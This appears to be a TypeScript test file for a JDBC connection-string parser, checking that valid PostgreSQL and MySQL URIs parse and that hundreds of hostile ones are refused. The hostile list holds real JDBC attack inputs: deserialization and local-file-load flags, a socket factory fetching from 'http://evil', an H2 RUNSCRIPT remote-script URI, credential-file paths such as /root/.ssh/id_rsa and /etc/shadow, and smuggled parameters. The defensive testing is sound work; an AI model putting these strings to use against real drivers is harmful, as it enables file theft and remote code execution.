import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { ConnectionRefusal, parseConnectionUri } from '../../src/configuration/connection-uri.js';

const uris = suite('connection strings of jdbc lookups');

const of = (database: string, host: string, port: number, databaseName: string, tls: string) => ({
  database,
  host,
  port,
  databaseName,
  tls,
});

for (const [uri, expected] of [
  ['jdbc:postgresql://localhost:5432/druid', of('postgresql', 'localhost', 5432, 'druid', 'off')],
  ['jdbc:postgresql://db.example.com/druid', of('postgresql', 'db.example.com', 5432, 'druid', 'off')],
  ['jdbc:mysql://localhost:3306/druid', of('mysql', 'localhost', 3306, 'druid', 'off')],
  ['jdbc:mariadb://10.0.0.1/my-db', of('mysql', '10.0.0.1', 3306, 'my-db', 'off')],
  ['jdbc:postgresql://[::1]:5433/d', of('postgresql', '::1', 5433, 'd', 'off')],
  ['jdbc:postgresql://h/d?ssl=true', of('postgresql', 'h', 5432, 'd', 'verified')],
  ['jdbc:postgresql://h/d?sslmode=require', of('postgresql', 'h', 5432, 'd', 'encrypted')],
  ['jdbc:postgresql://h/d?sslmode=verify-ca&ssl=false', of('postgresql', 'h', 5432, 'd', 'trusted')],
  ['jdbc:mysql://h/d?useSSL=true&requireSSL=true', of('mysql', 'h', 3306, 'd', 'encrypted')],
  ['jdbc:mysql://h/d?sslMode=VERIFY_IDENTITY', of('mysql', 'h', 3306, 'd', 'verified')],
  ['jdbc:mysql://h/d?useSSL=false', of('mysql', 'h', 3306, 'd', 'off')],
] as const)
  uris(`${uri} is read`, () => assert.equal(parseConnectionUri(uri), expected));

const SCHEMES = ['jdbc:postgresql', 'jdbc:mysql', 'jdbc:mariadb'];
const PROPERTIES = [
  ...[
    'allowLoadLocalInfile=true',
    'allowUrlInLocalInfile=true',
    'autoDeserialize=true',
    'queryInterceptors=a.b.C',
    'statementInterceptors=x',
  ],
  ...['socketFactory=org.springframework.Ctx', 'socketFactoryArg=http://evil/x.xml', 'sslfactory=x.Y', 'sslfactoryarg=file:/etc/passwd'],
  ...['loggerFile=/etc/cron.d/x', 'loggerLevel=TRACE', 'sslcert=/etc/passwd', 'sslkey=/root/.ssh/id_rsa', 'sslrootcert=/etc/shadow'],
  ...['user=root', 'password=x', 'localSocket=/run/x', 'pipe=x', 'serverRsaPublicKeyFile=/etc/passwd', 'allowMultiQueries=true'],
  ...[
    'ssl=/etc/passwd',
    'sslmode=prefer',
    'ssl=true&ssl=false',
    'ssl',
    '=x',
    'ssl=true;user=root',
    'sslmode=require%26user=x',
    's%73l=true',
  ],
  ...[
    'ssl=true#x',
    'ssl=true&',
    '&ssl=true',
    'ssl=true user=x',
    'options=-c%20x',
    'authenticationPluginClassName=x',
    'currentSchema=x',
    '__proto__=true',
  ],
  ...['constructor=true', 'trustCertificateKeyStoreUrl=file:///etc/passwd', 'profileSQL=true', 'connectionAttributes=x:y', 'host=evil'],
];
const AUTHORITIES = [
  ...[
    'good@evil',
    'user:pw@host',
    'good,evil',
    'h1:1,h2:2',
    '(host=evil)',
    'address=(host=a)(port=1)',
    '[good]',
    '[::1%eth0]',
    '[::g]',
    '',
  ],
  ...[
    'good evil',
    'good\tevil',
    'good\nevil',
    'good\0evil',
    'good\\evil',
    'good#evil',
    'good?evil',
    'go%6fd',
    'gööd',
    '-evil',
    '.evil',
    '/evil',
  ],
  ...[
    'good:0',
    'good:65536',
    'good:99999999999',
    'good:-1',
    'good:80:80',
    'good:x',
    'good:',
    '/var/run/postgresql',
    '%2Fvar%2Frun',
    '..',
    '~',
  ],
];
const NAMES = [
  'a/b',
  '../x',
  'a b',
  "a'b",
  'a"b',
  'a;b',
  'a%00b',
  'a\nb',
  '',
  'x'.repeat(65),
  'a#b',
  'a@b',
  'a:b',
  'a\0b',
  'a,b',
  'a(b)',
  'a=b',
  'a`b',
  '%61',
];
const WHOLE = [
  ...[
    'jdbc:postgresql:druid',
    'jdbc:postgresql:/h/d',
    'jdbc:mysql:loadbalance://h/d',
    'jdbc:mysql:replication://a,b/d',
    'jdbc:mysql+srv://h/d',
  ],
  ...[
    'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM "http://evil"',
    'jdbc:derby://h:1527/x;create=true',
    'jdbc:sqlite:/etc/passwd',
    'jdbc:oracle:thin:@h:1:x',
  ],
  ...[
    'mysql://h/d',
    'postgresql://h/d',
    'file:///etc/passwd',
    'http://h/d',
    '',
    'jdbc:',
    ' jdbc:mysql://h/d',
    'jdbc:mysql://h/d ',
    'jdbc:mysql://h',
  ],
  ...[
    'jdbc:sqlserver://h;database=x',
    'jdbc:mysqlx://h/d',
    'jdbc:postgresql://h/d\njdbc:mysql://e/d',
    'jdbc:jdbc:mysql://h/d',
    'jdbc:log4jdbc:mysql://h/d',
  ],
  ...[
    'jdbc:mysql:///d',
    'jdbc:postgresql:///',
    'jdbc:mariadb:sequential:h,i/d',
    'jdbc:pgsql://h/d',
    'jdbc:redshift:iam://h/d',
    'jdbc:mysql:fabric://h/d',
  ],
];
const HOSTILE = [
  ...SCHEMES.flatMap((scheme) => PROPERTIES.map((property) => `${scheme}://host/db?${property}`)),
  ...SCHEMES.flatMap((scheme) => AUTHORITIES.map((authority) => `${scheme}://${authority}/db`)),
  ...SCHEMES.flatMap((scheme) => NAMES.map((name) => `${scheme}://host/${name}`)),
  ...WHOLE,
];

uris(`${HOSTILE.length} hostile strings are refused, without being repeated`, () => {
  assert.ok(HOSTILE.length >= 300, String(HOSTILE.length));
  for (const uri of HOSTILE) {
    try {
      const found = parseConnectionUri(uri);
      assert.unreachable(`${JSON.stringify(uri)} is read as ${JSON.stringify(found)}`);
    } catch (error) {
      assert.instance(error, ConnectionRefusal, String(error));
      assert.ok(!(error as Error).message.includes('pw'));
    }
  }
});

uris.run();
